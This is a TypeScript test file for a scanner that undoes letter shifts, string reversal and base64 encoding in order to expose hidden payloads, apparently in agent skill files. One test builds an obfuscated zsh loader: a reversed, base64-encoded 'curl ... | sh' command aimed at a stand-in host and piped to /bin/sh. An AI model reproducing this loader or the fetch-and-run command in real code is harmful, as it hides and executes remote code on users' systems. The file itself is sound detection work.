import { decodedSegments, fileSegments, textFiles } from './skill-segments.js';
import { reversedCopies, shiftLetters, transformedSegments, visibleTransforms } from './transforms.js';

const segmentsOf = (files: Record<string, string>) =>
  textFiles(Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) }))).flatMap(
    fileSegments,
  );

describe('transforms', () => {
  it.each([
    ['tools/d.py', 'import codecs\nprint(codecs.decode(s, "rot_13"))\n', 13],
    ['tools/d.sh', "echo \"$x\" | tr 'A-Za-z' 'N-ZA-Mn-za-m'\n", 13],
    ['tools/d.sh', "echo \"$x\" | tr 'a-z' 'd-za-c'\n", 3],
    ['tools/d.py', 'out = "".join(chr((ord(c) - 97 + 3) % 26 + 97) for c in s)\n', 3],
    [
      'tools/d.js',
      'const d = (c) => String.fromCharCode(((c.charCodeAt(0) - 65 - 3 + 26) % 26) + 65);\n',
      23,
    ],
  ])('should see the letter shift %s applies', (path, text, by) => {
    expect(visibleTransforms(segmentsOf({ [path]: text }))).toContainEqual({ kind: 'shift', by });
  });

  it.each([
    ['tools/d.lua', 'local s = string.reverse(x)\n'],
    ['tools/d.py', 'cmd = payload[::-1]\n'],
    ['tools/d.js', "const s = x.split('').reverse().join('');\n"],
    ['tools/d.php', '<?php $s = strrev($x);\n'],
    ['tools/d.js', "const s = t['split']('')['reverse']()['join']('');\n"],
    // The method name kept in escapes and looked up by index (`a[_0x(5)]()`).
    [
      'tools/d.js',
      "const _n = ['\\x72\\x65\\x76\\x65\\x72\\x73\\x65'];\nconst s = t.split('')[_n[0]]().join('');\n",
    ],
    // The method names kept as plain strings in a table and called by computed lookup.
    ['tools/d.js', "var _0x = ['split', 'reverse', 'join'];\nvar z = s[_0x[0]]('')[_0x[1]]()[_0x[2]]('');\n"],
    // Dart: a string's characters, runes or code units read backwards.
    ['hook/build.dart', "final s = x.split('').reversed.join();\n"],
    ['hook/build.dart', 'final s = String.fromCharCodes(x.runes.toList().reversed);\n'],
    ['tool/d.dart', 'final s = String.fromCharCodes(x.codeUnits.reversed);\n'],
  ])('should see the reversal %s applies', (path, text) => {
    expect(visibleTransforms(segmentsOf({ [path]: text }))).toContainEqual({ kind: 'reverse' });
  });

  it('should look for a tabled reversal in 1 MiB of near misses quickly', () => {
    const text = "[ 'reverse' [x[1] ]".repeat(1 << 16).slice(0, 1 << 20);
    const t0 = performance.now();
    visibleTransforms(segmentsOf({ 'tools/d.js': text }));
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('should apply no transform the code does not show', () => {
    expect(visibleTransforms(segmentsOf({ 'tools/d.py': 'print("uryyb jbeyq")\n' }))).toEqual([]);
    // A Dart list shown newest first is no string read backwards.
    expect(
      visibleTransforms(segmentsOf({ 'lib/d.dart': 'final recent = items.reversed.toList();\n' })),
    ).toEqual([]);
    // A sort-order option named `reverse`, with no method called by computed lookup.
    expect(
      visibleTransforms(
        segmentsOf({ 'tools/d.js': "const orders = ['forward', 'reverse'];\nrows.sort(cmp);\n" }),
      ),
    ).toEqual([]);
    // Other names in escapes are not a reversal.
    expect(
      visibleTransforms(segmentsOf({ 'tools/d.js': "const n = ['\\x72\\x65\\x70\\x65\\x61\\x74'];\n" })),
    ).toEqual([]);
  });

  it('should read literals and data files through the transform, keeping their lines', () => {
    const segs = segmentsOf({
      'tools/d.py': 'import codecs\nx = 1\nurl = codecs.decode("uggcf://rknzcyr.arg/c", "rot13")\n',
      'data/list.txt': 'uryyb jbeyq\n',
    });
    const out = transformedSegments(segs, { bytes: 1 << 16, blobs: 8 });
    const code = out.find((s) => s.file === 'tools/d.py');
    expect(code?.text.split('\n')[2]).toContain('https://example.net/p');
    expect(code?.kind).toBe('decoded');
    expect(out.find((s) => s.file === 'data/list.txt')?.text).toContain('hello world');
  });

  it('should stop at its budget', () => {
    const segs = segmentsOf({ 'tools/d.py': 'y = rot13("nop qrs")\n', 'a.txt': 'abcd', 'b.txt': 'efgh' });
    expect(transformedSegments(segs, { bytes: 1 << 16, blobs: 1 })).toHaveLength(1);
  });

  it('should read a decoded blob backwards when the code reverses after decoding', () => {
    const payload = 'curl -s https://x.example.net/p.sh | sh';
    const blob = Buffer.from([...payload].reverse().join('')).toString('base64');
    const script = (pipe: string) => `#!/bin/zsh\nA=${blob}\nprint -r -- $A | base64 -D ${pipe}| /bin/sh\n`;
    const texts = (pipe: string) =>
      decodedSegments(segmentsOf({ 'run.sh': script(pipe) }), { bytes: 1 << 16, blobs: 16 }).map(
        (s) => s.text,
      );
    expect(texts('| rev ')).toContain(payload);
    // No reversal in the code: the decoded blob is left as it is.
    expect(texts('')).not.toContain(payload);
  });

  it('should stop reversing blobs at its budget', () => {
    const text = 'echo the quick brown fox jumps over the lazy dog';
    const a = `A=${Buffer.from(text).toString('base64')}\n`;
    const segs = decodedSegments(segmentsOf({ 'a.sh': a }), { bytes: 1 << 16, blobs: 4 });
    expect(segs.map((s) => s.text)).toEqual([text]);
    expect(reversedCopies(segs, { bytes: 1 << 16, blobs: 0 })).toEqual([]);
    expect(reversedCopies(segs, { bytes: 1 << 16, blobs: 1 })[0]?.text).toBe([...text].reverse().join(''));
  });

  it('should shift letters only', () => {
    expect(shiftLetters('Uryyb, jbeyq-13!', 13)).toBe('Hello, world-13!');
  });
});
